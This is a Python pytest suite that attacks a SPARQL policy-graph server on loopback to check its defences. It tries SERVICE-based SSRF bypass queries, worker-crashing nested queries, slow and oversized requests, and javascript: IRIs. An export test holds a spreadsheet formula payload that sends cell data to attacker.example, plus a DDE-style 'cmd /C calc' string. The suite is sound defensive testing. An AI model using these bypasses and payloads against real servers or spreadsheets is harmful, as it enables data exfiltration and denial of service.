"""`policy-graph serve` under attack and failure (issue 15): SSRF through SERVICE, a request
that would freeze the server, queries that kill workers, resource exhaustion, headers.
The real server on loopback over tests/fixtures/mini.trig; only loopback traffic."""

from __future__ import annotations

import multiprocessing as mp
import os
import re
import shutil
import signal
import socket
import threading
import time

import httpx
import pyoxigraph as ox
import pytest

from graph.server import create_app
from graph.server.guard import MAX_QUERY_CHARS, screen
from graph.server.sandbox import deny_network
from graph.store import settle
from server_support import BASE, FIXTURE, RAW_DIR, Listener, build_fixture_store, running_server, serving

# the fixture's graphs state 205 triples, four of them twice: the store holds each once
FIXTURE_TRIPLES = len({q.triple for q in ox.parse(path=str(FIXTURE), format=ox.RdfFormat.TRIG)})
AGENCIES_QUERY = "SELECT ?a WHERE { ?a a <http://www.w3.org/ns/org#Organization> } ORDER BY ?a"
CROSS_JOIN = "SELECT (COUNT(*) AS ?n) WHERE { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l }"  # 205⁴ rows
SORTED_JOIN = (
    "SELECT * WHERE { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i } ORDER BY ?c ?f ?i"  # 205³ rows, all kept to sort
)


@pytest.fixture(scope="module")
def store(tmp_path_factory):
    return build_fixture_store(tmp_path_factory.mktemp("attacks") / "store")


@pytest.fixture(scope="module")
def listener():
    found = Listener()
    yield found
    found.close()


@pytest.fixture(scope="module")
def url(store):
    with running_server(store, timeout_s=4.0, workers=2) as base_url:
        yield base_url


def select(url, query, client=None, **kwargs):
    http = client or httpx
    return http.get(
        url + "/sparql",
        params={"query": query},
        headers={"Accept": "application/sparql-results+json"},
        timeout=30,
        **kwargs,
    )


# ------------------------------------------------------------ 1. SSRF: SERVICE refused however written

BYPASSES = [
    # the reported bypass: the old scanner read `<2)SERVICE?x#>` as an IRI
    "SELECT ?secret WHERE {{ VALUES ?x {{ <{L}> }} {{ FILTER(1<2)SERVICE?x#>\n{{ ?s ?p ?secret }} }} }}",
    "SELECT ?secret WHERE {{ VALUES ?x {{ <{L}> }} LATERAL {{ FILTER(1<2)SERVICE?x#>\n{{ ?s ?p ?secret }} }} }}",
    "SELECT * WHERE {{ SERVICE <{L}> {{ ?s ?p ?o }} }}",
    "select * where {{ service silent <{L}> {{ ?s ?p ?o }} }}",
    "SELECT * WHERE {{ SeRvIcE <{L}> {{ ?s ?p ?o }} }}",
    "SELECT * WHERE {{ \\u0053ERVICE <{L}> {{ ?s ?p ?o }} }}",
    "SELECT * WHERE {{ \\U00000053\\u0045RVICE <{L}> {{ ?s ?p ?o }} }}",
    "SELECT * WHERE {{ SERVICE#comment }}\n<{L}> {{ ?s ?p ?o }} }}",
    "SELECT * WHERE {{ ?x ?y ?z .SERVICE<{L}>{{?s ?p ?o}} }}",
    "PREFIX ep: <{L}#>\nSELECT * WHERE {{ SERVICE ep:x {{ ?s ?p ?o }} }}",
    "BASE <{L}>\nSELECT * WHERE {{ SERVICE <> {{ ?s ?p ?o }} }}",
    "SELECT * WHERE {{ BIND(<{L}> AS ?e) SERVICE ?e {{ ?s ?p ?o }} }}",
    "SELECT * WHERE {{ VALUES ?e {{ <{L}> }} SERVICE SILENT ?e {{ ?s ?p ?o }} }}",
    "SELECT * WHERE {{ OPTIONAL {{ ?a ?b ?c MINUS {{ SERVICE <{L}> {{ ?s ?p ?o }} }} }} }}",
    "SELECT * WHERE {{ {{ {{ {{ SERVICE <{L}> {{ ?s ?p ?o }} }} }} }} UNION {{ ?a ?b ?c }} }}",
    "SELECT * WHERE {{ FILTER EXISTS {{ SERVICE <{L}> {{ ?s ?p ?o }} }} }}",
    "SELECT * WHERE {{ ?a ?b ?c FILTER NOT EXISTS {{ SERVICE <{L}> {{ }} }} }}",
    "SELECT * WHERE {{ {{ SELECT * WHERE {{ SERVICE <{L}> {{ ?s ?p ?o }} }} }} }}",
    "SELECT * WHERE {{ GRAPH ?g {{ SERVICE <{L}> {{ ?s ?p ?o }} }} }}",
    "ASK {{ SERVICE <{L}> {{ ?s ?p ?o }} }}",
    "CONSTRUCT {{ ?s ?p ?o }} WHERE {{ SERVICE <{L}> {{ ?s ?p ?o }} }}",
    "DESCRIBE ?s WHERE {{ SERVICE <{L}> {{ ?s ?p ?o }} }}",
    'SELECT * WHERE {{ """<""" ?p ?o . SERVICE <{L}> {{ ?s ?p ?o }} }}',
    "SELECT * WHERE {{ ?s ?p '''#''' SERVICE <{L}> {{ ?s ?p ?o }} }}",
    "SELECT * WHERE {{ ?s ?p ?o }} #\n; SERVICE <{L}> {{ }}",
]


@pytest.mark.parametrize("template", BYPASSES)
def test_service_is_refused_however_written_and_nothing_is_contacted(url, listener, template):
    query = template.format(L=listener.url)
    response = select(url, query)
    assert response.status_code in (400, 403), response.text
    assert "SERVICE" in response.text or "syntax" in response.text
    assert listener.contacts == []


@pytest.mark.parametrize(
    "template",
    [
        "SELECT * FROM <{L}> WHERE {{ ?s ?p ?o }}",
        "SELECT * FROM NAMED <{L}> WHERE {{ GRAPH ?g {{ ?s ?p ?o }} }}",
        "CONSTRUCT {{ ?s ?p ?o }} FROM <{L}> WHERE {{ ?s ?p ?o }}",
    ],
)
def test_a_dataset_named_by_url_is_looked_up_in_the_store_never_fetched(url, listener, template):
    """FROM / FROM NAMED name graphs of the store: Oxigraph does not load them from the network."""
    response = httpx.get(url + "/sparql", params={"query": template.format(L=listener.url)}, timeout=30)
    assert response.status_code == 200
    if template.startswith("SELECT"):
        assert response.json()["results"]["bindings"] == []
    else:
        assert "<" not in response.text.replace("@prefix", "")  # not one triple
    assert listener.contacts == []


@pytest.mark.parametrize("template", BYPASSES)
def test_every_text_that_could_hold_service_goes_to_the_parser(template):
    """guard.screen lets a text skip the parse only when the word is nowhere in it."""
    assert screen(template.format(L="http://127.0.0.1:9/x")) is None


@pytest.mark.parametrize(
    "text",
    [
        "SELECT * WHERE { \\u005Cu0053ERVICE <http://127.0.0.1:9/> { ?s ?p ?o } }",  # escaped twice
        "SELECT * WHERE { ＳＥＲＶＩＣＥ <http://127.0.0.1:9/> { ?s ?p ?o } }",  # full-width
        "SELECT * WHERE { ſervice <http://127.0.0.1:9/> { ?s ?p ?o } }",  # long s
        'SELECT * WHERE { ?s ?p "service" }',  # the word in a string: parsed, to be sure
    ],
)
def test_the_screen_folds_escapes_case_and_compatibility_forms(text):
    assert screen(text) is None


def test_a_text_without_the_word_is_run_unparsed_oxigraph_extensions_included(url):
    """LATERAL is beyond SPARQL 1.1 (rdflib cannot read it) but cannot hide a SERVICE in a text
    without the word: Oxigraph runs it."""
    verdict = screen("SELECT ?x WHERE { VALUES ?s { 1 } LATERAL { BIND(?s + 1 AS ?x) } }")
    assert verdict is not None and verdict.repeatable
    response = select(url, "SELECT ?x WHERE { VALUES ?s { 1 } LATERAL { BIND(?s + 1 AS ?x) } }")
    assert response.status_code == 200, response.text
    assert response.json()["results"]["bindings"] == [
        {"x": {"type": "literal", "value": "2", "datatype": "http://www.w3.org/2001/XMLSchema#integer"}}
    ]


@pytest.mark.parametrize("form", ["query", "update"])
def test_load_and_service_as_updates_are_refused(url, listener, form):
    for text in (
        f"LOAD <{listener.url}>",
        f"INSERT {{ ?s ?p ?o }} WHERE {{ SERVICE <{listener.url}> {{ ?s ?p ?o }} }}",
    ):
        response = httpx.post(url + "/sparql", data={form: text}, timeout=30)
        assert response.status_code == 403
    assert listener.contacts == []


@pytest.fixture(scope="module")
def writable_url(store, tmp_path_factory):
    copy = shutil.copytree(store, tmp_path_factory.mktemp("writable") / "store")
    with running_server(copy, allow_update=True, update_token="s3cret", workers=1) as base_url:
        yield base_url


UPDATE = "INSERT DATA { GRAPH <urn:g> { <urn:get> <urn:b> 'by GET' } }"
TOKEN = {"Authorization": "Bearer s3cret"}


def test_an_update_sent_by_get_is_refused_even_with_the_token(writable_url):
    response = httpx.get(writable_url + "/sparql", params={"update": UPDATE}, headers=TOKEN, timeout=30)
    assert response.status_code == 405 and response.headers["allow"] == "POST"
    assert "POST" in response.text
    seen = select(writable_url, "SELECT ?o WHERE { <urn:get> <urn:b> ?o }").json()["results"]["bindings"]
    assert seen == []


@pytest.mark.parametrize("token", [None, "Bearer wrong", "Bearer s3cret"])
def test_answers_to_update_requests_are_never_cached(writable_url, token):
    headers = {"Authorization": token} if token else {}
    update = "INSERT DATA { GRAPH <urn:g> { <urn:c> <urn:b> 'x' } }"
    response = httpx.post(writable_url + "/sparql", data={"update": update}, headers=headers, timeout=30)
    assert response.status_code == (200 if token == "Bearer s3cret" else 401)
    assert response.headers["cache-control"] == "no-store"


def test_links_to_iris_of_other_schemes_are_never_made(store, tmp_path):
    """Whatever IRI the graph holds (an update may store any), a page links only to http(s) IRIs
    and its own paths: a ``javascript:`` or ``data:`` IRI is shown, never a link."""
    copy = shutil.copytree(store, tmp_path / "store")
    hostile = ox.Store(str(copy))
    node, see_also = (
        ox.NamedNode(f"{BASE}/x/hostile"),
        ox.NamedNode("http://www.w3.org/2000/01/rdf-schema#seeAlso"),
    )
    graph = ox.NamedNode("urn:hostile")
    for target in (
        "javascript:alert(1)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgyKTwvc2NyaXB0Pg==",
        "https://example.org/ok",
    ):
        hostile.add(ox.Quad(node, see_also, ox.NamedNode(target), graph))
    settle(hostile)
    hostile.flush()
    del hostile
    with running_server(copy, workers=1) as base_url:
        page = httpx.get(base_url + "/x/hostile", timeout=30)
    assert page.status_code == 200
    links = re.findall(r'href="([^"]*)"', page.text)
    assert "https://example.org/ok" in links
    assert [link for link in links if link.startswith(("javascript:", "data:"))] == []
    assert "alert(1)" in page.text  # shown as text


def _service_from_a_sandboxed_process(endpoint: str, results) -> None:
    import pyoxigraph as ox

    results.put(("filter", deny_network()))
    try:
        rows = list(ox.Store().query(f"SELECT ?s WHERE {{ SERVICE <{endpoint}> {{ ?s ?p ?o }} }}"))
        results.put(("rows", len(rows)))
    except Exception as err:
        results.put(("error", f"{type(err).__name__}: {err}"))


def test_second_wall_a_worker_cannot_open_a_network_socket(listener):
    """Even a SERVICE the query check missed could not leave: Oxigraph itself is refused."""
    ctx = mp.get_context("spawn")
    results = ctx.Queue()
    process = ctx.Process(target=_service_from_a_sandboxed_process, args=(listener.url, results))
    process.start()
    process.join(60)
    assert results.get(timeout=5) == ("filter", True)
    kind, detail = results.get(timeout=5)
    assert kind == "error" and "Permission denied" in detail
    assert listener.contacts == []


# ------------------------------------------------------------ 2. nothing heavy in the server process


def test_hostile_search_is_refused_quickly_and_health_stays_fast(url):
    began = time.monotonic()
    long_one = httpx.get(url + "/search", params={"q": "x" + " " * 2000 + "x", "format": "json"}, timeout=30)
    assert long_one.status_code == 400 and "200" in long_one.text
    widest = httpx.get(url + "/search", params={"q": "zq" + " " * 196 + "zq", "format": "json"}, timeout=30)
    assert widest.status_code == 200 and widest.json() == []
    assert time.monotonic() - began < 10  # was 19.8 s for the first request alone


def test_short_form_matching_is_linear():
    from graph.server.pages import score_document

    doc = {
        "symbol": "29-NQ/TW",
        "number": "29",
        "type": None,
        "vi": "Nghị quyết 29",
        "en": None,
        "title": None,
    }
    began = time.monotonic()
    assert score_document("Nghị quyết" + " " * 100_000 + "29", doc) == 45  # its label's words, as one phrase
    assert score_document("x" + " " * 100_000 + "x", doc) == 0
    assert time.monotonic() - began < 5


def test_health_answers_while_the_workers_are_busy(url):
    slow = [threading.Thread(target=select, args=(url, CROSS_JOIN)) for _ in range(2)]
    for thread in slow:
        thread.start()
    time.sleep(0.5)
    began = time.monotonic()
    health = httpx.get(url + "/health", timeout=30)
    took = time.monotonic() - began
    for thread in slow:
        thread.join(60)
    assert health.status_code == 200 and health.json()["quads"] == FIXTURE_TRIPLES
    assert took < 2.5  # it never waits for a query worker (they are busy for 4 s)


class SlowTemplates:
    """Templates whose rendering holds the interpreter 0.4 s, as a page of thousands of rows does."""

    def __init__(self, env):
        self.env = env

    def get_template(self, name):
        template = self.env.get_template(name)

        class Slow:
            def render(self, **context):
                busy_until = time.perf_counter() + 0.4
                while time.perf_counter() < busy_until:  # CPU-bound, like Jinja: the GIL is held
                    pass
                return template.render(**context)

        return Slow()


def test_health_stays_fast_while_big_pages_render_and_hostile_queries_run(store):
    """/health is answered by the event loop; rendering a page runs in a thread, so two
    clients looping slow-to-render pages and one looping a query that runs to its time limit
    leave the loop free.  (Rendered on the loop, each page held /health up to 0.4 s: median 0.3 s.)"""
    app = create_app(str(store), raw_dir=str(RAW_DIR), timeout_s=2.0, workers=2)
    app.state.templates = SlowTemplates(app.state.templates)
    with serving(app) as url:
        stop = time.monotonic() + 8

        def loop(address, send):
            with httpx.Client(transport=httpx.HTTPTransport(local_address=address), timeout=30) as http:
                while time.monotonic() < stop:
                    send(http)

        load = [
            threading.Thread(target=loop, args=(f"127.0.0.{3 + n}", lambda h: h.get(url + "/documents")))
            for n in range(2)
        ]
        load.append(
            threading.Thread(target=loop, args=("127.0.0.9", lambda h: select(url, CROSS_JOIN, client=h)))
        )
        for thread in load:
            thread.start()
        time.sleep(1.0)
        took = []
        with httpx.Client(timeout=30) as http:
            for _ in range(
                15
            ):  # the median of several probes: one unlucky scheduling slice is not the server
                began = time.perf_counter()
                assert http.get(url + "/health").status_code == 200
                took.append(time.perf_counter() - began)
                time.sleep(0.1)
        for thread in load:
            thread.join(60)
    assert sorted(took)[len(took) // 2] < 0.1


def test_query_workers_run_at_a_lower_cpu_priority_than_the_server(app_and_url):
    from graph.server.sparql import WORKER_NICENESS

    app, url = app_and_url
    assert select(url, AGENCIES_QUERY).status_code == 200
    mine = os.getpriority(os.PRIO_PROCESS, 0)
    for worker in [w for w in app.state.pool.workers if w.alive()]:
        assert os.getpriority(os.PRIO_PROCESS, worker.process.pid) == min(19, mine + WORKER_NICENESS)


# ------------------------------------------------------------ 3. workers that die, a pool that heals


def test_deeply_nested_query_is_refused_and_the_next_one_succeeds(url):
    nested = "SELECT * WHERE " + "{" * 10_000 + " ?s ?p ?o " + "}" * 10_000
    refused = select(url, nested)
    assert refused.status_code == 400 and "nested" in refused.text
    innocent = select(url, AGENCIES_QUERY)
    assert innocent.status_code == 200 and len(innocent.json()["results"]["bindings"]) == 4


def _filled(prefix: str, unit: str, suffix: str, units: int | None = None) -> str:
    """``prefix unit…unit suffix``, as many units as fit in MAX_QUERY_CHARS (or ``units``)."""
    if units is None:
        units = (MAX_QUERY_CHARS - len(prefix) - len(suffix)) // len(unit)
    return prefix + unit * units + suffix


# Deep without a single bracket more: each level is a recursion of Oxigraph's parser or
# evaluator.  10,000 '!' killed a worker (SIGSEGV: its 8 MiB main-thread stack overflowed).
DEEP_WITHOUT_BRACKETS = {
    "negations": _filled("ASK { FILTER(", "!!", "true) }"),
    "disjunctions": _filled("ASK { FILTER(true", "||1", ") }"),
    "optionals": _filled("ASK { ", "OPTIONAL{}", " }"),
    "minuses": _filled("ASK { ", "MINUS{}", " }"),
}


def _workers_died(url) -> int:
    return httpx.get(url + "/health", timeout=30).json()["workers_died"]


@pytest.fixture(scope="module")
def patient_url(store):
    # A deep query takes about a second of CPU on a quiet machine and went past the 4 s limit of
    # ``url`` at load 15 (stop 19): what is tested here is that it is answered by a live worker,
    # not how fast, so the limit is wide.
    with running_server(store, timeout_s=60.0, workers=2) as base_url:
        yield base_url


@pytest.mark.parametrize("name", sorted(DEEP_WITHOUT_BRACKETS))
def test_deep_expressions_within_the_length_limit_are_answered_without_killing_a_worker(patient_url, name):
    url = patient_url
    text = DEEP_WITHOUT_BRACKETS[name]
    assert len(text) <= MAX_QUERY_CHARS
    died = _workers_died(url)
    response = httpx.post(
        url + "/sparql",
        content=text.encode(),
        headers={"Content-Type": "application/sparql-query", "Accept": "application/sparql-results+json"},
        timeout=90,
    )
    assert response.status_code == 200, response.text
    assert response.json()["boolean"] is True
    assert _workers_died(url) == died


def test_query_too_long_is_refused_before_any_worker(url):
    response = httpx.post(
        url + "/sparql",
        content=("SELECT * WHERE { ?s ?p ?o }" + " " * 70_000).encode(),
        headers={"Content-Type": "application/sparql-query"},
        timeout=30,
    )
    assert response.status_code == 413 and "65536" in response.text


@pytest.fixture()
def app_and_url(store):
    # 30 s: under load a replacement worker can take over 10 s to start, and the point here is
    # which worker serves, not how fast.
    app = create_app(str(store), raw_dir=str(RAW_DIR), timeout_s=30.0, workers=2, worker_memory_mb=1024)
    with serving(app) as base_url:
        yield app, base_url


def test_query_past_the_memory_cap_gets_its_own_error_and_the_pool_heals(app_and_url):
    _app, url = app_and_url
    hungry = select(url, SORTED_JOIN)
    assert hungry.status_code == 503
    assert "memory" in hungry.text
    for _ in range(4):  # every later request is answered, none inherits the dead worker
        assert select(url, AGENCIES_QUERY).status_code == 200
    health = httpx.get(url + "/health", timeout=30).json()
    assert health["ready"] == 2 and health["workers_died"] == 1


def test_a_worker_killed_while_idle_is_replaced_before_use(app_and_url):
    app, url = app_and_url
    pool = app.state.pool
    killed = list(pool.workers)
    for worker in killed:
        os.kill(worker.process.pid, signal.SIGKILL)
    # "killed while idle": dead before the next request comes.  A loaded machine can take a moment to
    # deliver the signal and tear the process down; a request sent meanwhile meets a worker still running,
    # which then dies under its query (a 503, as for a query that kills its worker): another case.
    deadline = time.monotonic() + 30
    while any(w.process.is_alive() for w in killed) and time.monotonic() < deadline:
        time.sleep(0.05)
    statuses = [select(url, AGENCIES_QUERY).status_code for _ in range(6)]
    assert statuses == [200] * 6
    # Replacements start in the background (a killed spare too): give the pool time to heal.
    deadline = time.monotonic() + 60
    while True:
        serving_workers = [w for w in pool.workers if not w.spare]
        if (
            len(serving_workers) == 2 and all(w.alive() for w in serving_workers)
        ) or time.monotonic() > deadline:
            break
        time.sleep(0.2)
    assert len(serving_workers) == 2 and all(w.alive() for w in serving_workers)


def test_workers_that_fail_to_start_are_replaced_and_requests_told_why(store, monkeypatch):
    """The first starts fail (a fork refused, then workers that die before they are ready):
    a request meanwhile gets a 503 saying the workers could not start, never a 500 or a hang;
    the pool keeps starting workers and serves once one comes up."""
    from graph.server import pool as pool_module

    real_worker, starts = pool_module.Worker, []

    def failing_worker(*args, **kwargs):
        starts.append(1)
        if len(starts) <= 2:
            raise OSError(11, "Resource temporarily unavailable")  # what fork says under a process cap
        worker = real_worker(*args, **kwargs)
        if len(starts) <= 4:
            worker.process.kill()  # died while starting up
        return worker

    monkeypatch.setattr(pool_module, "Worker", failing_worker)
    app = create_app(str(store), raw_dir=str(RAW_DIR), timeout_s=1.5, workers=1)
    with serving(app, wait_for_workers=False) as url:
        refused = select(url, AGENCIES_QUERY)
        assert refused.status_code == 503
        assert "could not start" in refused.text
        deadline = time.monotonic() + 60
        while select(url, AGENCIES_QUERY).status_code != 200:
            assert time.monotonic() < deadline, "no worker ever started"
            time.sleep(0.5)
        health = httpx.get(url + "/health", timeout=30).json()
    assert len(starts) >= 5 and health["ready"] == 1 and health["start_failure"] is None


def _client_echo():
    """The app's request guard around a page that answers with the client fair turns count for."""
    from starlette.applications import Starlette
    from starlette.responses import PlainTextResponse
    from starlette.routing import Route

    from graph.server.limits import Guarded
    from graph.server.pool import current_client

    echo = Starlette(routes=[Route("/{path:path}", lambda request: PlainTextResponse(current_client.get()))])
    return Guarded(echo, deadline_s=10)


@pytest.mark.parametrize(
    ("trusted", "forwarded", "client"),
    [
        ((), "203.0.113.7", "127.0.0.1"),  # no proxy named: the header is ignored, even from loopback
        (("127.0.0.1",), "203.0.113.7", "203.0.113.7"),
        (("127.0.0.0/8",), "198.51.100.1, 203.0.113.7", "203.0.113.7"),  # the nearest hop not trusted
        (("10.0.0.5",), "203.0.113.7", "127.0.0.1"),  # another proxy is trusted, not this peer
    ],
)
def test_client_identity_is_the_peer_unless_a_trusted_proxy_forwards(trusted, forwarded, client):
    with serving(_client_echo(), wait_for_workers=False, trusted_proxies=trusted) as url:
        answer = httpx.get(url + "/who", headers={"X-Forwarded-For": forwarded}, timeout=30)
    assert answer.text == client


def test_one_client_cannot_take_every_worker(store):
    with running_server(store, timeout_s=3.0, workers=2) as url:
        hog = [threading.Thread(target=select, args=(url, CROSS_JOIN)) for _ in range(3)]
        for thread in hog:
            thread.start()
        time.sleep(0.5)
        with httpx.Client(transport=httpx.HTTPTransport(local_address="127.0.0.2")) as other:
            began = time.monotonic()
            answer = select(url, AGENCIES_QUERY, client=other)
            took = time.monotonic() - began
        for thread in hog:
            thread.join(60)
    assert answer.status_code == 200
    assert took < 2.5  # the hog holds one worker at a time; the other is free for someone else


def test_clients_looping_slow_queries_leave_a_worker_for_the_others(store):
    """Three clients, each from its own address, loop queries that run to the time limit: once
    their first query ran slow they are heavy, and heavy clients share all workers but one."""
    with running_server(store, timeout_s=2.0, workers=2) as url:
        stop = time.monotonic() + 9

        def hog(address):
            with httpx.Client(transport=httpx.HTTPTransport(local_address=address)) as http:
                while time.monotonic() < stop:
                    select(url, CROSS_JOIN, client=http)

        hogs = [threading.Thread(target=hog, args=(f"127.0.0.{n}",)) for n in (11, 12, 13)]
        for thread in hogs:
            thread.start()
        time.sleep(4.5)  # every hog has had a slow query by now
        answers = []
        with httpx.Client(transport=httpx.HTTPTransport(local_address="127.0.0.2")) as other:
            for _ in range(3):
                began = time.monotonic()
                answers.append(
                    (select(url, AGENCIES_QUERY, client=other).status_code, time.monotonic() - began)
                )
        for thread in hogs:
            thread.join(60)
    assert [status for status, _ in answers] == [200, 200, 200]
    assert max(took for _, took in answers) < 1.9  # was: 503 after waiting the 2 s limit for a worker


# ------------------------------------------------------------ 4. resource caps


def test_an_announced_huge_body_is_refused_before_it_is_read(url):
    with socket.create_connection(("127.0.0.1", int(url.rsplit(":", 1)[1])), timeout=10) as sock:
        sock.sendall(
            b"POST /sparql HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/sparql-query\r\n"
            b"Content-Length: 300000000\r\n\r\nSELECT"
        )
        reply = sock.recv(4096)
    assert reply.startswith(b"HTTP/1.1 413")


def test_a_streamed_body_is_cut_at_the_limit(url):
    def chunks():
        for _ in range(64):
            yield b"#" * 65536

    response = httpx.post(
        url + "/sparql", content=chunks(), timeout=30, headers={"Content-Type": "application/sparql-query"}
    )
    assert response.status_code == 413


def test_security_headers_on_every_response(url):
    for path in ("/", "/sparql?query=ASK%7B%7D", "/health", "/static/yasgui/yasgui.min.js", "/eli/none"):
        headers = httpx.get(url + path, timeout=30).headers
        assert headers["x-content-type-options"] == "nosniff", path
        assert headers["referrer-policy"] == "same-origin"
        assert headers["x-frame-options"] == "DENY"
        assert "script-src 'self'" in headers["content-security-policy"]


def test_evaluation_error_is_400_with_the_engine_message(url):
    response = select(
        url, "SELECT ?x WHERE { ?x ?p ?o } GROUP BY ?p"
    )  # SPARQL 1.1 grammar, refused by Oxigraph
    assert response.status_code == 400
    assert "unbound" in response.text


@pytest.fixture(scope="module")
def tight_url(store):
    with running_server(store, workers=1, max_connections=8, header_timeout_s=1.0) as base_url:
        yield base_url


def _port(url: str) -> int:
    return int(url.rsplit(":", 1)[1])


def test_a_slow_request_head_is_cut_off(tight_url):
    with socket.create_connection(("127.0.0.1", _port(tight_url)), timeout=10) as sock:
        sock.sendall(b"GET /health HTTP/1.1\r\n")
        sock.settimeout(0.3)
        began = time.monotonic()
        for _ in range(20):  # one header line every 0.3 s: never a whole head
            try:
                sock.sendall(b"X-Drip: 1\r\n")
                if sock.recv(100) == b"":
                    break
            except TimeoutError:
                continue
            except OSError:
                break
        closed_after = time.monotonic() - began
    assert closed_after < 4


def test_a_request_head_past_its_size_cap_is_cut_off_at_once(url):
    """uvicorn's httptools protocol would hold a head of any size until it ends: the server
    refuses one past 64 KiB (431) and closes, long before the 10 s head deadline."""
    with socket.create_connection(("127.0.0.1", _port(url)), timeout=10) as sock:
        sock.sendall(b"GET /health HTTP/1.1\r\nHost: localhost\r\nX-Big: " + b"a" * 128 * 1024)
        sock.settimeout(5)
        try:
            reply = sock.recv(100)
        except ConnectionResetError:  # closed with our surplus unread: the 431 may be lost
            reply = b""
    assert reply in (b"",) or reply.startswith(b"HTTP/1.1 431")
    assert httpx.get(url + "/health", timeout=30).status_code == 200


def _big_answer(rows: int) -> str:
    """A SELECT of ``rows`` rows of ~250 KB each on the small fixture."""
    doubled = " ".join(f"BIND(CONCAT(?x{n}, ?x{n}) AS ?x{n + 1})" for n in range(12))
    return f"SELECT ?x12 WHERE {{ ?a ?b ?c BIND(STR(?a) AS ?x0) {doubled} }} LIMIT {rows}"


def _ask_and_read_nothing(port: int, query: str) -> tuple[socket.socket, int]:
    """Send the query, read the answer's head only; the socket and the body's announced length."""
    sock = socket.socket()
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)  # the server keeps what we do not take
    sock.settimeout(30)
    sock.connect(("127.0.0.1", port))
    target = "/sparql?" + str(httpx.QueryParams({"query": query}))
    sock.sendall(f"GET {target} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n".encode())
    head = b""
    while b"\r\n\r\n" not in head:
        head += sock.recv(1)
    assert head.startswith(b"HTTP/1.1 200"), head
    length = int(
        next(line for line in head.split(b"\r\n") if line.lower().startswith(b"content-length"))[15:]
    )
    return sock, length


def _read_to_the_end(sock: socket.socket) -> int:
    got = 0
    try:
        while chunk := sock.recv(1 << 20):
            got += len(chunk)
    except ConnectionResetError:
        pass
    sock.close()
    return got


def test_answers_nobody_reads_are_cut_past_the_unsent_cap(store):
    """Six clients ask for ~10 MB each and read nothing: past 24 MiB waiting in the server, the
    connections that have waited longest are cut (they held 31 MB each for as long as they liked)."""
    app = create_app(str(store), raw_dir=str(RAW_DIR), workers=2)
    with serving(app, max_unsent_bytes=24 * 2**20) as url:
        asked = [_ask_and_read_nothing(_port(url), _big_answer(40 + n)) for n in range(6)]
        received = [_read_to_the_end(sock) for sock, _ in reversed(asked)][::-1]
        lengths = [length for _, length in asked]
        assert all(length > 9_000_000 for length in lengths)
        assert received[0] < lengths[0]  # the oldest was cut
        assert received[-1] == lengths[-1]  # the newest was answered whole
        assert httpx.get(url + "/health", timeout=30).status_code == 200


def test_connections_past_the_cap_are_refused_and_others_recover(tight_url):
    idle = [socket.create_connection(("127.0.0.1", _port(tight_url)), timeout=10) for _ in range(8)]
    try:
        time.sleep(0.2)
        with socket.create_connection(("127.0.0.1", _port(tight_url)), timeout=10) as extra:
            assert extra.recv(100).startswith(b"HTTP/1.1 503")
    finally:
        for sock in idle:
            sock.close()
    time.sleep(0.2)
    assert httpx.get(tight_url + "/health", timeout=30).status_code == 200


def test_a_trusted_proxy_that_is_not_an_address_is_refused(store):
    from click.testing import CliRunner

    from graph.cli import main

    result = CliRunner().invoke(main, ["serve", "--store", str(store), "--trusted-proxy", "proxy.local"])
    assert result.exit_code == 2 and "proxy.local" in result.output and "not an IP address" in result.output


# ------------------------------------------------------------ exports opened in Excel

FORMULA = '=HYPERLINK("http://attacker.example/?d="&A1,"Bấm vào đây")'


def _export_rows():
    from graph.queries import QueryResult

    cells = [FORMULA, "@SUM(1+1)*cmd|' /C calc'!A0", "- Sở Tài chính chủ trì", "Sở Công Thương"]
    return QueryResult(columns=["task"], rows=[{"task": ox.Literal(cell)} for cell in cells])


def test_document_text_that_looks_like_a_formula_is_text_in_the_xlsx_export():
    """Task texts come from documents: '=…' must not become a live formula (openpyxl writes a
    string that starts with '=' as one), in /tree?format=xlsx or the CLI's --format xlsx."""
    import io

    from openpyxl import load_workbook

    from graph.queries import to_xlsx

    sheet = load_workbook(io.BytesIO(to_xlsx(_export_rows()))).active
    cells = [sheet.cell(row=n, column=1) for n in range(2, 6)]
    assert [cell.data_type for cell in cells] == ["s"] * 4
    assert cells[0].value == FORMULA


def test_document_text_that_looks_like_a_formula_is_neutralised_in_the_csv_export():
    """In CSV, Excel evaluates a field that opens with '=' or '@': such a field opens with an
    apostrophe (Excel's mark for text); other text is untouched.  (A bullet '- …' is one since
    stop 19, as '+' and '-' open formulas too: tests/test_server_stop19.py.)"""
    from graph.queries import to_csv

    lines = to_csv(_export_rows()).removeprefix("\ufeff").split("\r\n")
    assert lines[1] == '"\'=HYPERLINK(""http://attacker.example/?d=""&A1,""Bấm vào đây"")"'
    assert lines[2] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert lines[3:5] == ["'- Sở Tài chính chủ trì", "Sở Công Thương"]


@pytest.mark.parametrize(
    ("text", "refused"),
    [
        ("SELECT * WHERE { ?s ?p ?o }", False),
        ("ASK {" + "{}" * 500 + "}", False),  # 501 brackets, never more than 2 deep
        ("ASK " + "{" * 64 + "}" * 64, False),
        ("ASK " + "{" * 65 + "}" * 65, True),
        ("ASK " + "(" * 40 + "[" * 30 + "]" * 30 + ")" * 40, True),
    ],
)
def test_the_nesting_precheck_counts_depth_not_brackets(text, refused):
    from graph.server.guard import JobError, precheck

    if refused:
        with pytest.raises(JobError, match="nested more than 64"):
            precheck(text)
    else:
        precheck(text)
